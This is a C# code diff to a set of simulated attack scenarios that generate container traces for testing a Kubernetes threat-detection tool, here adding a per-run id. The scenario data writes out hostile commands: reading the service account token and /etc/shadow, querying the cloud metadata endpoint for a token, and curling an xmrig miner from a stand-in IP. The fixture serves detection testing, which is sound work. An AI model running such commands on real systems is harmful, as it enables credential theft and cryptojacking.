@@ -24,29 +24,33 @@ public static class AttackScenarios
 
     private static readonly ExpectedAlert WebShell = new(WebShellTitle, "High", AlertSubject.Pod);
 
-    /// <summary>The named scenario against a pod of its own in <paramref name="cluster"/>, starting at <paramref name="start"/>.</summary>
-    public static ScenarioTrace Build(string name, string cluster, DateTimeOffset start) => name switch
+    /// <summary>
+    /// The named scenario against a pod of its own in <paramref name="cluster"/>, starting at <paramref name="start"/>.
+    /// A <paramref name="run"/> id gives the pod (name, uid, container) and its service account names of that run's
+    /// own, so a second run raises new alerts instead of adding to the first run's within their de-duplication window.
+    /// </summary>
+    public static ScenarioTrace Build(string name, string cluster, DateTimeOffset start, string run = "") => name switch
     {
-        "recon" => Recon(cluster, start),
-        "lateral" => Lateral(cluster, start),
-        "secrets" => Secrets(cluster, start),
-        "crypto" => Crypto(cluster, start),
-        "webshell" => WebShellOnly(cluster, start),
+        "recon" => Recon(cluster, start, run),
+        "lateral" => Lateral(cluster, start, run),
+        "secrets" => Secrets(cluster, start, run),
+        "crypto" => Crypto(cluster, start, run),
+        "webshell" => WebShellOnly(cluster, start, run),
         _ => throw new ArgumentException($"Unknown scenario '{name}'. Known: {string.Join(", ", Names)}.", nameof(name)),
     };
 
-    public static ScenarioTrace WebShellOnly(string cluster, DateTimeOffset start)
+    public static ScenarioTrace WebShellOnly(string cluster, DateTimeOffset start, string run = "")
     {
-        var (trace, php) = Foothold(cluster, "webshell", start);
+        var (trace, php) = Foothold(cluster, "webshell", start, run);
         Command(trace, php, "/usr/bin/id");
         Command(trace, php, "/usr/bin/whoami");
         Command(trace, php, "/bin/uname", "-a");
         return trace.Build("webshell", [WebShell]);
     }
 
-    public static ScenarioTrace Recon(string cluster, DateTimeOffset start)
+    public static ScenarioTrace Recon(string cluster, DateTimeOffset start, string run = "")
     {
-        var (trace, php) = Foothold(cluster, "recon", start);
+        var (trace, php) = Foothold(cluster, "recon", start, run);
         Command(trace, php, "/usr/bin/id");
         var (_, cat) = Command(trace, php, "/bin/cat", TokenPath);
         trace.Open(cat, TokenPath);
@@ -70,9 +74,9 @@ public static class AttackScenarios
         ]);
     }
 
-    public static ScenarioTrace Lateral(string cluster, DateTimeOffset start)
+    public static ScenarioTrace Lateral(string cluster, DateTimeOffset start, string run = "")
     {
-        var (trace, php) = Foothold(cluster, "lateral", start);
+        var (trace, php) = Foothold(cluster, "lateral", start, run);
         Command(trace, php, "/usr/bin/whoami");
         var (_, curl) = Command(trace, php, "/usr/bin/curl", "-s", "-H", "Metadata: true",
             "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/");
@@ -80,9 +84,9 @@ public static class AttackScenarios
         return trace.Build("lateral", [WebShell, new(MetadataTitle, "Medium", AlertSubject.Pod)]);
     }
 
-    public static ScenarioTrace Secrets(string cluster, DateTimeOffset start)
+    public static ScenarioTrace Secrets(string cluster, DateTimeOffset start, string run = "")
     {
-        var (trace, php) = Foothold(cluster, "secrets", start);
+        var (trace, php) = Foothold(cluster, "secrets", start, run);
         var (_, shadow) = Command(trace, php, "/bin/cat", "/etc/shadow");
         // The storefront runs as www-data: the kernel refuses, and the attempt is the evidence.
         trace.Open(shadow, "/etc/shadow", errno: 13);
@@ -104,9 +108,9 @@ public static class AttackScenarios
         ]);
     }
 
-    public static ScenarioTrace Crypto(string cluster, DateTimeOffset start)
+    public static ScenarioTrace Crypto(string cluster, DateTimeOffset start, string run = "")
     {
-        var (trace, php) = Foothold(cluster, "crypto", start);
+        var (trace, php) = Foothold(cluster, "crypto", start, run);
         var (_, download) = Command(trace, php, "/usr/bin/curl", "-sLo", "/tmp/xmrig", "http://203.0.113.50/xmrig");
         trace.Connect(download, "203.0.113.50", 80);
         trace.Create(download, "/tmp/xmrig");
@@ -134,9 +138,9 @@ public static class AttackScenarios
     private const string TokenPath = "/var/run/secrets/kubernetes.io/serviceaccount/token";
 
     /// <summary>The storefront as it runs (supervisord, nginx, php-fpm), and the PHP worker a web shell runs in.</summary>
-    private static (TraceBuilder Trace, Process Php) Foothold(string cluster, string scenario, DateTimeOffset start)
+    private static (TraceBuilder Trace, Process Php) Foothold(string cluster, string scenario, DateTimeOffset start, string run)
     {
-        var trace = new TraceBuilder(ScenarioPod.For(cluster, scenario), start);
+        var trace = new TraceBuilder(ScenarioPod.For(cluster, scenario, run), start);
         var shim = trace.Existing(1, "/usr/bin/containerd-shim-runc-v2", "root", "-namespace", "k8s.io", "-id", trace.Pod.ContainerId, "-address", "/run/containerd/containerd.sock");
         var supervisor = trace.Existing(shim.Pid, "/usr/bin/supervisord", "root", "-n", "-c", "/etc/supervisor/supervisord.conf");
         trace.Existing(supervisor.Pid, "/usr/sbin/nginx", "root", "-g", "daemon off;");
